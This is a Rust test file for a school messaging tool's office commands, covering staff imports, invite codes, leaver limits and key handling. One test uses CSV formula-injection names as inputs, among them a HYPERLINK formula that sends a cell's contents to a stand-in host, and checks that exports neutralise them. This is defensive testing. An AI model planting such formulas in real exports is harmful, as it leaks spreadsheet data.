//! The office's command-line tools (`haven import`, `haven invite`, `haven aup report`), run as
//! the binary in a temp directory with a fresh database: what they write, what they refuse, and
//! what the files they leave behind allow.

use std::path::Path;
use std::process::{Command, Output, Stdio};

/// A key (base64 of 32 bytes).
const KEY: &str = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=";
pub const STAFF: &str = include_str!("../../examples/staff.csv");

/// `haven ARGS` in `dir` with the school's database and key, and nothing else.
pub fn haven(dir: &Path, args: &[&str]) -> (String, String, bool) {
    haven_with(dir, args, &[("HAVEN_SECRETS__KEY", KEY)])
}

/// `haven ARGS` in `dir` with the database and exactly the environment `env`.
pub fn haven_with(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> (String, String, bool) {
    let mut c = Command::new(env!("CARGO_BIN_EXE_haven"));
    c.current_dir(dir)
        .env_clear()
        .env("HAVEN_DATABASE__URL", dir.join("haven.db"))
        .args(args);
    for (k, v) in env {
        c.env(k, v);
    }
    let Output {
        status,
        stdout,
        stderr,
    } = c.stdin(Stdio::null()).output().expect("haven runs");
    (
        String::from_utf8_lossy(&stdout).to_string(),
        String::from_utf8_lossy(&stderr).to_string(),
        status.success(),
    )
}

/// Writes `text` to `dir/name` and returns the path as an argument.
pub fn file(dir: &Path, name: &str, text: &str) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

#[cfg(unix)]
fn mode(path: &Path) -> u32 {
    use std::os::unix::fs::PermissionsExt;
    std::fs::metadata(path).unwrap().permissions().mode() & 0o777
}

#[test]
fn a_name_that_is_a_formula_is_written_as_text_and_the_invitations_are_the_owners_only() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let staff = format!(
        "{STAFF}STF050,\"=HYPERLINK(\"\"https://x.example/?c=\"\"&D2,\"\"Click\"\")\",staff,\n\
         STF051,@SUM(1+1),staff,\nSTF052,+44 7700 900123,staff,\nSTF053,-Dee,staff,\n"
    );
    let (_, err, ok) = haven(d, &["import", "staff", &file(d, "staff.csv", &staff)]);
    assert!(ok, "{err}");
    let (_, err, ok) = haven(d, &["invite", "--all", "--out", "invite.csv"]);
    assert!(ok, "{err}");

    let csv = std::fs::read_to_string(d.join("invite.csv")).unwrap();
    let mut names = csv::Reader::from_reader(csv.as_bytes());
    let names: Vec<String> = names.records().map(|r| r.unwrap()[1].to_string()).collect();
    for formula in [
        "'=HYPERLINK(\"https://x.example/?c=\"&D2,\"Click\")",
        "'@SUM(1+1)",
        "'+44 7700 900123",
        "'-Dee",
    ] {
        assert!(names.iter().any(|n| n == formula), "{formula} in {names:?}");
    }
    assert!(names.iter().any(|n| n == "Margaret Thornbury"));
    let mut cells = csv::Reader::from_reader(csv.as_bytes());
    for row in cells.records() {
        for cell in row.unwrap().iter() {
            let first = cell.chars().next();
            assert!(
                !matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')),
                "{cell:?} would run"
            );
        }
    }
    #[cfg(unix)]
    assert_eq!(mode(&d.join("invite.csv")), 0o600, "live codes: owner only");
}

#[test]
fn the_aup_report_neutralises_names_and_is_the_owners_only() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let staff = format!("{STAFF}STF050,=1+2,staff,\n");
    assert!(haven(d, &["import", "staff", &file(d, "staff.csv", &staff)]).2);
    let policy = file(d, "aup.md", "# Staff AUP\n\nBe kind online.\n");
    let (_, err, ok) = haven(
        d,
        &[
            "aup",
            "publish",
            "--file",
            &policy,
            "--title",
            "Staff AUP",
            "--version",
            "1",
            "--audience",
            "staff",
        ],
    );
    assert!(ok, "{err}");
    let (_, err, ok) = haven(d, &["aup", "report", "--csv", "--out", "aup.csv"]);
    assert!(ok, "{err}");
    let csv = std::fs::read_to_string(d.join("aup.csv")).unwrap();
    assert!(csv.contains(",'=1+2,"), "{csv}");
    assert!(!csv.contains(",=1+2,"), "{csv}");
    #[cfg(unix)]
    assert_eq!(mode(&d.join("aup.csv")), 0o600, "personal data: owner only");
}

/// The staff file with only its first `rows` people.
fn first_staff(rows: usize) -> String {
    STAFF
        .lines()
        .take(rows + 1)
        .map(|l| format!("{l}\n"))
        .collect()
}

/// What a dry run of the whole example staff file says: nothing would change.
fn unchanged(d: &Path) {
    let all = file(d, "all.csv", STAFF);
    let (out, err, ok) = haven(d, &["import", "staff", &all, "--dry-run"]);
    assert!(ok, "{err}");
    assert_eq!(
        out.trim(),
        "Dry run, nothing was written. The import would add 0, update 0, leave 11 unchanged and \
         mark 0 as leavers."
    );
}

#[test]
fn a_header_only_staff_file_is_refused_whatever_the_office_allows() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    assert!(haven(d, &["import", "staff", &file(d, "staff.csv", STAFF)]).2);
    let empty = file(d, "empty.csv", "external_id,name,roles,language\n");
    for extra in [&[][..], &["--allow-leavers"], &["--dry-run"]] {
        let args = [&["import", "staff", empty.as_str()][..], extra].concat();
        let (out, err, ok) = haven(d, &args);
        assert!(!ok, "refused with {extra:?}");
        assert!(out.is_empty(), "{out}");
        assert!(
            err.contains("Nothing was imported: the file has no people in it"),
            "{err}"
        );
        assert!(!err.contains("Imported"), "{err}");
    }
    unchanged(d);
}

#[test]
fn a_half_empty_staff_file_stops_says_who_would_leave_and_goes_ahead_only_when_allowed() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    assert!(haven(d, &["import", "staff", &file(d, "staff.csv", STAFF)]).2);
    let half = file(d, "half.csv", &first_staff(5));

    for extra in [&[][..], &["--dry-run"]] {
        let args = [&["import", "staff", half.as_str()][..], extra].concat();
        let (out, err, ok) = haven(d, &args);
        assert!(!ok && out.is_empty(), "{out}");
        assert!(
            err.contains(
                "The import would add 0, update 0, leave 5 unchanged and mark 6 as leavers."
            ),
            "{err}"
        );
        assert!(err.contains("leaver: STF006 Owen Hartley"), "{err}");
        assert!(err.contains("leaver: GOV001 Hilary Penrose"), "{err}");
        assert!(
            err.contains("all staff: 6 of 11 would be marked as leavers."),
            "{err}"
        );
        assert!(
            err.contains("more than 20% of a group as leavers") && err.contains("--allow-leavers"),
            "{err}"
        );
    }
    unchanged(d);

    // One leaver in eleven is within the limit.
    let (out, err, ok) = haven(
        d,
        &["import", "staff", &file(d, "ten.csv", &first_staff(10))],
    );
    assert!(ok, "{err}");
    assert!(out.contains("Imported 0 new, 0 updated, 10 unchanged, 1 marked as leavers."));
    assert!(out.contains("leaver: GOV002 Marcus Fenwick-Lowe"), "{out}");

    // The office means it.
    let (out, err, ok) = haven(d, &["import", "staff", &half, "--allow-leavers"]);
    assert!(ok, "{err}");
    assert!(
        out.contains("Imported 0 new, 0 updated, 5 unchanged, 5 marked as leavers."),
        "{out}"
    );
}

#[test]
fn the_share_of_leavers_allowed_is_configurable() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    assert!(haven(d, &["import", "staff", &file(d, "staff.csv", STAFF)]).2);
    let half = file(d, "half.csv", &first_staff(5));
    let env = [
        ("HAVEN_SECRETS__KEY", KEY),
        ("HAVEN_ROSTER__MAX_LEAVER_PERCENT", "60"),
    ];
    let (out, err, ok) = haven_with(d, &["import", "staff", &half, "--dry-run"], &env);
    assert!(ok, "{err}");
    assert!(out.contains("mark 6 as leavers"), "{out}");
    unchanged(d);
    let (out, err, ok) = haven_with(d, &["import", "staff", &half], &env);
    assert!(ok, "{err}");
    assert!(out.contains("6 marked as leavers"), "{out}");
}

#[test]
fn emptying_one_class_stops_a_parents_import() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let parents = include_str!("../../examples/parents.csv");
    assert!(haven(d, &["import", "parents", &file(d, "p.csv", parents)]).2);
    let class = "Reception Oak";
    let without: String = parents
        .lines()
        .filter(|l| !l.contains(class))
        .map(|l| format!("{l}\n"))
        .collect();
    let (_, err, ok) = haven(d, &["import", "parents", &file(d, "q.csv", &without)]);
    assert!(!ok);
    assert!(err.contains(&format!("the parents of {class}:")), "{err}");
}

#[test]
fn invite_never_silently_replaces_a_code_issued_the_same_day() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    assert!(haven(d, &["import", "staff", &file(d, "staff.csv", STAFF)]).2);
    let (_, err, ok) = haven(d, &["invite", "--out", "first.csv"]);
    assert!(ok && err.contains("Issued 11 link codes"), "{err}");
    let first = std::fs::read_to_string(d.join("first.csv")).unwrap();

    let (out, err, ok) = haven(d, &["invite", "--out", "second.csv"]);
    assert!(ok, "{err}");
    assert!(out.is_empty());
    assert!(
        err.contains("11 people were left out: codes issued to them today still work"),
        "{err}"
    );
    assert!(err.contains("No link codes were issued"), "{err}");
    assert!(!d.join("second.csv").exists(), "no file without codes");

    let (out, err, ok) = haven(d, &["invite", "--person", "STF001"]);
    assert!(!ok && out.is_empty(), "{out}");
    assert!(err.contains("STF001 was issued a code today at"), "{err}");
    assert!(err.contains("--replace"), "{err}");

    let (out, err, ok) = haven(d, &["invite", "--person", "STF001", "--replace"]);
    assert!(ok, "{err}");
    let new_code = out
        .lines()
        .nth(1)
        .unwrap()
        .split(',')
        .nth(3)
        .unwrap()
        .to_string();
    assert!(!first.contains(&new_code), "a new code: {out}");
}

#[test]
fn the_first_import_takes_effect_and_a_later_safeguarding_role_waits_for_confirmation() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (out, err, ok) = haven(d, &["import", "staff", &file(d, "staff.csv", STAFF)]);
    assert!(ok, "{err}");
    assert!(
        !out.contains("waiting for"),
        "the first import bootstraps: {out}"
    );
    let more = format!("{STAFF}STF099,Bev Ashdown (2),dsl;staff,\n");
    let (out, err, ok) = haven(d, &["import", "staff", &file(d, "more.csv", &more)]);
    assert!(ok, "{err}");
    assert!(out.contains("Imported 1 new"), "{out}");
    assert!(
        out.contains(
            "waiting for the Headteacher or the Chair to confirm in chat: STF099 Bev Ashdown (2): dsl"
        ),
        "{out}"
    );
}

#[test]
fn the_office_tools_run_with_the_directory_key_alone() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let office = [("HAVEN_SECRETS__DIRECTORY_KEY", KEY)];
    let staff = file(d, "staff.csv", STAFF);
    let (out, err, ok) = haven_with(d, &["import", "staff", &staff], &office);
    assert!(ok, "{err}");
    assert!(out.contains("Imported 11 new"), "{out}");
    let (_, err, ok) = haven_with(d, &["invite", "--out", "invite.csv"], &office);
    assert!(ok, "{err}");
    let (_, err, ok) = haven_with(d, &["relink", "--person", "STF001"], &office);
    assert!(!ok);
    assert!(
        err.contains("STF001 has no account move waiting for approval"),
        "{err}"
    );
    assert!(
        !d.join("haven.key").exists(),
        "no safeguarding key was made or read"
    );

    // What needs the safeguarding key refuses to run without it.
    let (_, err, ok) = haven_with(
        d,
        &[
            "report",
            "concerns",
            "--from",
            "2026-01-01",
            "--to",
            "2026-12-31",
        ],
        &office,
    );
    assert!(!ok);
    assert!(err.contains("No encryption key"), "{err}");

    // Another directory key is refused.
    let other = [(
        "HAVEN_SECRETS__DIRECTORY_KEY",
        "AQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQEBAQE=",
    )];
    let (_, err, ok) = haven_with(d, &["invite"], &other);
    assert!(!ok);
    assert!(err.contains("another directory key"), "{err}");
}

/// Runs the console (the demo school) in `dir` with `script` on standard input.
fn console(dir: &Path, script: &str) -> String {
    use std::io::Write;
    let mut child = Command::new(env!("CARGO_BIN_EXE_haven"))
        .current_dir(dir)
        .env_clear()
        .env("HAVEN_DATABASE__URL", dir.join("haven.db"))
        .env("HAVEN_LOG__LEVEL", "warn")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("haven starts");
    let mut stdin = child.stdin.take().expect("stdin");
    stdin.write_all(script.as_bytes()).expect("script written");
    drop(stdin);
    let out = child.wait_with_output().expect("haven finishes");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).to_string()
}

#[test]
fn on_the_console_a_code_posted_in_a_group_is_dead_afterwards() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    console(d, "/as Emma\n/whoami\n"); // the demo school, with its safeguarding key
    let (out, err, ok) = haven_with(
        d,
        &["invite", "--person", "PAR006", "--include-linked"],
        &[],
    );
    assert!(ok, "{err}");
    let code = out
        .lines()
        .nth(1)
        .unwrap()
        .split(',')
        .nth(3)
        .unwrap()
        .to_string();

    let shown = console(
        d,
        &format!(
            "/as Bronwen\n/in group Year 3 parents\nEmma, your code is {code}\n\
             /in private\n/as Stranger\n/link {code}\n/whoami\n"
        ),
    );
    assert!(
        shown.contains("That looked like a link code, so it no longer works"),
        "{shown}"
    );
    assert!(
        shown.contains("Your link code was posted in a group chat"),
        "{shown}"
    );
    assert!(
        shown.contains("That code was cancelled because it was seen outside a private chat"),
        "{shown}"
    );
    assert!(shown.contains("I don't know who you are yet"), "{shown}");
}

#[test]
fn an_import_that_leaves_no_head_chair_or_dsl_is_refused_even_with_allow_leavers() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    assert!(haven(d, &["import", "staff", &file(d, "staff.csv", STAFF)]).2);
    let leaderless = STAFF
        .replace("headteacher;slt", "slt")
        .replace("dsl;slt;staff", "slt;staff")
        .replace("deputy_dsl;staff", "staff")
        .replace("chair_of_governors;governor", "governor");
    let path = file(d, "leaderless.csv", &leaderless);
    for extra in [&[][..], &["--allow-leavers"], &["--dry-run"]] {
        let args = [&["import", "staff", path.as_str()][..], extra].concat();
        let (out, err, ok) = haven(d, &args);
        assert!(!ok && out.is_empty(), "{out}");
        assert!(err.contains("The import would add 0, update 4"), "{err}");
        assert!(
            err.contains(
                "nobody active would hold the role of Headteacher, Chair of Governors or DSL"
            ),
            "{err}"
        );
    }
    unchanged(d);
}
